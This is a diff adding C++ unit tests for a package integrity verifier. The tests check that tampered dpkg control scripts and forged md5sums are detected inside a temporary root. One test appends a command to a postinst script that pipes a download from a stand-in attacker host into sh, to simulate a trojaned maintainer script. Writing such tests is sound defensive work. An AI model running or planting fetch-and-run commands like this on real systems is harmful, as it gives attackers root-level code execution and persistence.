@@ -352,7 +352,99 @@ public:
     }
 };
 
+// ---------------------------------------------------------------------------------------------
+
+// A package "svc" with a postinst, installed: dpkg keeps its control members in info/.
+struct ScriptedPackage {
+    TempDir tmp;
+    std::string deb = build_package(
+        tmp, "svc",
+        "mkdir -p usr/bin && printf '#!/bin/sh\\necho svc\\n' > usr/bin/svc && chmod 755 usr/bin/svc\n"
+        "printf '#!/bin/sh\\nset -e\\necho configured\\n' > DEBIAN/postinst && "
+        "chmod 755 DEBIAN/postinst\n"
+        "md5sum usr/bin/svc > DEBIAN/md5sums\n");
+    std::string ref = make_reference(tmp, {deb});
+    SystemRoot root{tmp / "root"};
+    ScriptedPackage() { root.install(deb); }
+    std::string q(const std::string& path) const { return shell_quote(root / path); }
+};
+
+class VerifyControlTest : public CppUnit::TestFixture {
+    CPPUNIT_TEST_SUITE(VerifyControlTest);
+    CPPUNIT_TEST(testKeptMembersArePristine);
+    CPPUNIT_TEST(testTrojanedPostinstIsModified);
+    CPPUNIT_TEST(testPlantedPostrmIsReported);
+    CPPUNIT_TEST(testDeletedAndForgedMd5sums);
+    CPPUNIT_TEST_SUITE_END();
+
+public:
+    void testKeptMembersArePristine() {
+        ScriptedPackage sys;
+        const json doc = verify_json(sys.root, sys.ref, {"--all"}, 0);
+        for (const char* member : {"md5sums", "postinst"}) {
+            const json& entry = file_entry(doc, std::string("/var/lib/dpkg/info/svc.") + member);
+            CPPUNIT_ASSERT_EQUAL(std::string("pristine"), entry["status"].get<std::string>());
+            CPPUNIT_ASSERT(entry["control"].get<bool>());
+            CPPUNIT_ASSERT_EQUAL(std::string("svc"), entry["package"].get<std::string>());
+        }
+    }
+
+    void testTrojanedPostinstIsModified() {
+        // Persistence: the next upgrade or dpkg-reconfigure runs it as root.
+        ScriptedPackage sys;
+        must_sh("echo 'curl -s http://evil.example/x | sh' >> " +
+                sys.q("/var/lib/dpkg/info/svc.postinst"));
+        const json doc = verify_json(sys.root, sys.ref, {}, 1);
+        assert_deviations({{"/var/lib/dpkg/info/svc.postinst", "modified sha256"}}, doc);
+        const json& entry = file_entry(doc, "/var/lib/dpkg/info/svc.postinst");
+        CPPUNIT_ASSERT(entry["control"].get<bool>());
+        CPPUNIT_ASSERT_EQUAL(sha256_of(sys.root / "/var/lib/dpkg/info/svc.postinst"),
+                             entry["actual"]["sha256"].get<std::string>());
+        const RunResult text =
+            verify({"--root", sys.root.dir(), "--pkgdesc", sys.ref, "--trust-unsigned"});
+        CPPUNIT_ASSERT_EQUAL(1, text.status);
+        CPPUNIT_ASSERT_MESSAGE(text.out,
+                               text.out.find("modified     /var/lib/dpkg/info/svc.postinst "
+                                             "(svc, control member): sha256\n") !=
+                                   std::string::npos);
+        const RunResult rpm = verify({"--root", sys.root.dir(), "--pkgdesc", sys.ref,
+                                      "--trust-unsigned", "--format", "rpm"});
+        CPPUNIT_ASSERT_EQUAL(1, rpm.status);
+        CPPUNIT_ASSERT_EQUAL(std::string("..5......   /var/lib/dpkg/info/svc.postinst\n"), rpm.out);
+    }
+
+    void testPlantedPostrmIsReported() {
+        // svc ships no postrm; dpkg would run one at removal all the same.
+        ScriptedPackage sys;
+        must_sh("printf '#!/bin/sh\\nevil\\n' > " + sys.q("/var/lib/dpkg/info/svc.postrm") +
+                " && chmod 755 " + sys.q("/var/lib/dpkg/info/svc.postrm"));
+        const json doc = verify_json(sys.root, sys.ref, {}, 1);
+        assert_deviations({{"/var/lib/dpkg/info/svc.postrm", "modified type"}}, doc);
+        const json& entry = file_entry(doc, "/var/lib/dpkg/info/svc.postrm");
+        CPPUNIT_ASSERT_EQUAL(std::string("absent"), entry["expected"]["type"].get<std::string>());
+        CPPUNIT_ASSERT_EQUAL(std::string("file"), entry["actual"]["type"].get<std::string>());
+        CPPUNIT_ASSERT_EQUAL(std::string("not a control member of the package"),
+                             entry["reason"].get<std::string>());
+    }
+
+    void testDeletedAndForgedMd5sums() {
+        // An intruder who edits md5sums hides a change from debsums and dpkg --verify; not here.
+        ScriptedPackage sys;
+        must_sh("printf 'x\\n' >> " + sys.q("/usr/bin/svc") + " && cd " + sys.q("/") +
+                " && md5sum usr/bin/svc > var/lib/dpkg/info/svc.md5sums");
+        assert_deviations({{"/usr/bin/svc", "modified size,sha256,mtime"},
+                           {"/var/lib/dpkg/info/svc.md5sums", "modified sha256"}},
+                          verify_json(sys.root, sys.ref, {}, 1));
+        must_sh("rm " + sys.q("/var/lib/dpkg/info/svc.md5sums"));
+        const json doc = verify_json(sys.root, sys.ref, {}, 1);
+        CPPUNIT_ASSERT_EQUAL(std::string("missing"),
+                             file_entry(doc, "/var/lib/dpkg/info/svc.md5sums")["status"]
+                                 .get<std::string>());
+    }
+};
+
 } // namespace
 
+CPPUNIT_TEST_SUITE_NAMED_REGISTRATION(VerifyControlTest, "e2e.verify.control");
 CPPUNIT_TEST_SUITE_NAMED_REGISTRATION(VerifyHostileDatabaseTest, "e2e.verify.hostile_database");
 CPPUNIT_TEST_SUITE_NAMED_REGISTRATION(VerifyHostileOwnershipTest, "e2e.verify.hostile_ownership");
